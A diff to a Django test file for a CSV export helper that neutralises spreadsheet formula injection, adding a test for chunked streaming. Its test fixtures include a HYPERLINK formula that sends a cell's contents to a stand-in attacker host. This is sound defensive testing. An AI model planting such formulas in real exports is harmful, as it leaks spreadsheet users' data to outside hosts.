@@ -7,7 +7,7 @@ from decimal import Decimal
 
 from django.http import StreamingHttpResponse
 
-from vipdesk.lib.csv_export import csv_response, safe_cell
+from vipdesk.lib.csv_export import ROWS_PER_CHUNK, csv_response, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -57,3 +57,13 @@ def test_it_leaves_plain_text_dates_and_empty_cells_alone():
 def test_it_neutralises_the_header_too():
     header, *_ = read_back(csv_response("x.csv", ["=cmd"], []))
     assert header == ["'=cmd"]
+
+
+def test_it_streams_many_rows_in_chunks_and_loses_none():
+    rows = ([n, f"=row {n}"] for n in range(ROWS_PER_CHUNK * 2 + 7))
+    response = csv_response("x.csv", ["n", "text"], rows)
+    chunks = list(response.streaming_content)
+    assert len(chunks) == 3  # header + 500 rows, 500 rows, the last 7
+    header, *lines = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))
+    assert [int(n) for n, _ in lines] == list(range(ROWS_PER_CHUNK * 2 + 7))
+    assert lines[-1][1] == f"'=row {ROWS_PER_CHUNK * 2 + 6}"
